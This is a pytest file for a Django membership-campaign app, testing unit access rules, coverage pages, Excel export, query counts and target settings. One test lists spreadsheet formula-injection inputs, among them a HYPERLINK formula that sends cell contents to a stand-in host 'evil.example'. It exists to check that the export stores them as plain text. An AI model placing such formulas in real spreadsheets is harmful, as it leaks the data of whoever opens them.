import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from chuangxian.campaigns.todos import todos_for
from chuangxian.coverage.models import CoverageTarget
from chuangxian.coverage.tests.conftest import attend, pledge, project
from chuangxian.orgs.tests.factories import MemberFactory

pytestmark = pytest.mark.django_db


def _login(client, user):
    client.force_login(user)
    return client


def _unit_url(unit):
    return reverse("coverage:unit", args=[unit.pk])


@pytest.mark.parametrize(
    ("who", "where", "status"),
    [
        ("office", "root", 200),
        ("leader", "root", 200),
        ("office", "group", 200),
        ("chair", "college", 200),
        ("chair", "group", 200),
        ("liaison", "college", 200),
        ("chair", "sibling", 404),
        ("chair", "root", 404),
        ("member", "group", 404),
        ("member", "college", 404),
        ("other_office", "root", 404),
        ("other_office", "college", 404),
    ],
)
def test_who_sees_which_unit(client, tree, personas, world, who, where, status):
    _login(client, getattr(personas, who))
    assert client.get(_unit_url(getattr(tree, where))).status_code == status


def test_index_sends_each_officer_to_their_widest_unit(client, tree, personas, world):
    assert _login(client, personas.office).get(reverse("coverage:index")).url.endswith(_unit_url(tree.root))
    assert _login(client, personas.chair).get(reverse("coverage:index")).url.endswith(_unit_url(tree.college))
    assert _login(client, personas.member).get(reverse("coverage:index")).status_code == 404
    client.logout()
    assert client.get(reverse("coverage:index")).status_code == 302  # to the login page


def test_unit_page_shows_figures_and_who_is_missing(client, tree, personas, world):
    pledge(world.campaign, world.college_a)
    attend(world.activity, world.college_a)
    project(world.campaign, tree.college)
    page = _login(client, personas.chair).get(_unit_url(tree.college)).content.decode()
    assert "1/5" in page  # pledges and activities
    assert "学院会员乙" in page and "学院会员甲" not in page.split('id="missing"')[1]
    only_pledge = client.get(_unit_url(tree.college) + "?missing=pledge").content.decode()
    assert only_pledge.count('data-testid="missing-member"') == 4
    assert "覆盖目标" not in page  # the chair does not set targets


def test_office_page_lists_units_without_a_project(client, tree, personas, world):
    project(world.campaign, tree.college)
    page = _login(client, personas.office).get(_unit_url(tree.root)).content.decode()
    section = page.split('id="no-project"')[1]
    assert "数学与计算机科学学院" in section and "图书馆" in section
    assert "文学与传播学院" not in section.split('id="missing"')[0]


def test_bad_missing_filter_falls_back_to_any(client, tree, personas, world):
    response = _login(client, personas.office).get(_unit_url(tree.root) + "?missing=%3Cscript%3E")
    assert response.status_code == 200
    assert response.context["missing"] == "any"


def test_no_campaign_says_so(client, tree, personas):
    page = _login(client, personas.office).get(_unit_url(tree.root)).content.decode()
    assert "暂无进行中的创先活动" in page


def test_export_has_the_three_sheets(client, tree, personas, world):
    pledge(world.campaign, world.college_a)
    response = _login(client, personas.chair).get(reverse("coverage:export", args=[tree.college.pk]))
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["各单位覆盖情况", "未完成的会员", "项目未达标的单位"]
    members = list(book["未完成的会员"].iter_rows(min_row=3, values_only=True))
    assert {row[2] for row in members} == {"学院主席", "学院联络员", "学院会员甲", "学院会员乙", "普通会员"}
    a = next(row for row in members if row[2] == "学院会员甲")
    assert a[3] == "示诺（已公示）" and a[6] == "活动"
    assert isinstance(a[1], str)
    units = list(book["各单位覆盖情况"].iter_rows(min_row=3, values_only=True))
    assert units[-1][0] == "合计" and units[-1][2] == 5
    assert next(iter(book["项目未达标的单位"].iter_rows(min_row=3, values_only=True)))[0] == "文学与传播学院"
    assert (
        _login(client, personas.sibling_chair)
        .get(reverse("coverage:export", args=[tree.college.pk]))
        .status_code
        == 404
    )


def test_export_writes_formula_like_names_as_plain_text(client, tree, personas, world):
    """Names come from roster files: one that looks like a formula stays text in every sheet."""
    hostile = [
        '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
        "+1+2",
        "-2+3",
        "@A1",
        "\t=1",
        "\r=1",
    ]
    for text in hostile:
        MemberFactory(unit=tree.college, name=text)
    response = _login(client, personas.chair).get(reverse("coverage:export", args=[tree.college.pk]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for number in (1, 2, 3):
            xml = archive.read(f"xl/worksheets/sheet{number}.xml").decode()
            assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(response.content))["未完成的会员"]
    names = {row[2].value: row[2].data_type for row in sheet.iter_rows(min_row=3)}
    assert {text: names.get(text) for text in hostile} == dict.fromkeys(hostile, "s")


def _grow(tree, world, count):
    members = MemberFactory.create_batch(count, unit=tree.group)
    for i, member in enumerate(members):
        if i % 2:
            pledge(world.campaign, member)
        if i % 3:
            attend(world.activity, member)


def _queries(client, url):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return len(captured), response


def test_page_and_export_queries_do_not_grow_from_10_to_2000_members(client, tree, personas, world):
    _login(client, personas.office)
    page_url, export_url = _unit_url(tree.root), reverse("coverage:export", args=[tree.root.pk])
    client.get(page_url)  # warm the session
    _grow(tree, world, 10)
    small_page, _r = _queries(client, page_url)
    small_export, _r = _queries(client, export_url)
    _grow(tree, world, 1990)
    large_page, response = _queries(client, page_url)
    large_export, export = _queries(client, export_url)
    assert response.context["report"].total.figures.members == 2010
    assert (large_page, large_export) == (small_page, small_export)
    # The export service re-fetches the unit and campaign it checks and counts the rows (direct or
    # background): 16.
    assert large_page <= 16 and large_export <= 16
    sheet = load_workbook(io.BytesIO(export.content), read_only=True)["未完成的会员"]
    assert sum(1 for _row in sheet.iter_rows(min_row=3)) > 1000


def test_office_sets_targets_in_the_page(client, tree, personas, world):
    _login(client, personas.office)
    url = reverse("coverage:targets")
    assert client.get(url).status_code == 200
    response = client.post(
        url,
        {
            "category": "support",
            "support-projects": "0",
            "support-pledge_percent": "80",
            "support-activity_percent": "60",
        },
    )
    assert response.status_code == 302
    target = CoverageTarget.objects.get(category="support")
    assert (target.projects, target.pledge_percent, target.activity_percent) == (0, 80, 60)
    bad = client.post(
        url, {"category": "", "all-projects": "1", "all-pledge_percent": "150", "all-activity_percent": "x"}
    )
    assert bad.status_code == 200
    assert "比例不能超过 100" in bad.content.decode()
    assert CoverageTarget.objects.count() == 1
    client.post(url, {"category": "support", "clear": "1"})
    assert not CoverageTarget.objects.exists()


@pytest.mark.parametrize("who", ["chair", "leader", "member", "other_office"])
def test_only_the_office_opens_the_targets(client, personas, world, who):
    assert _login(client, getattr(personas, who)).get(reverse("coverage:targets")).status_code == 404


def test_chair_todo_names_the_gap_while_pledges_are_open(tree, personas, world, phase2):
    pledge(world.campaign, world.college_a)
    items = [i for i in todos_for(personas.chair, world.campaign) if "未完成承诺或活动" in i.title]
    assert len(items) == 1
    assert "4 人未公示承诺，5 人未参加活动" in items[0].detail
    assert items[0].url.startswith(_unit_url(tree.college))
    assert not [i for i in todos_for(personas.member, world.campaign) if "未完成承诺或活动" in i.title]


def test_chair_todo_is_quiet_outside_the_participation_phases(tree, personas, world):
    import time_machine

    with time_machine.travel("2010-11-10 10:00 +0800", tick=False):  # phase 1
        assert not [i for i in todos_for(personas.chair, world.campaign) if "未完成承诺或活动" in i.title]


def test_another_schools_campaign_is_not_found(client, tree, personas, world):
    from chuangxian.campaigns.tests.factories import make_campaign

    other = make_campaign(tree.other_tenant)
    client.force_login(personas.office)
    assert client.get(_unit_url(tree.root) + f"?campaign={other.pk}").status_code == 404
    assert client.get(_unit_url(tree.root) + f"?campaign={world.campaign.pk}").status_code == 200


@pytest.mark.parametrize(
    ("missing", "figure"),
    [("any", "incomplete"), ("pledge", "without_pledge"), ("activity", "without_activity")],
)
def test_the_missing_list_is_paged_with_the_reports_count(client, tree, personas, world, missing, figure):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    _grow(tree, world, 150)
    _login(client, personas.office)
    url = _unit_url(tree.root) + f"?missing={missing}&page=2"
    client.get(url)  # warm the session and the running campaign
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    page = response.context["page"]
    assert page.paginator.count == getattr(response.context["report"].total.figures, figure) > 50
    assert page.number == 2 and len(page.object_list) == min(50, page.paginator.count - 50)
    assert not [q for q in captured if "COUNT(*)" in q["sql"] and '"orgs_member"' in q["sql"]]
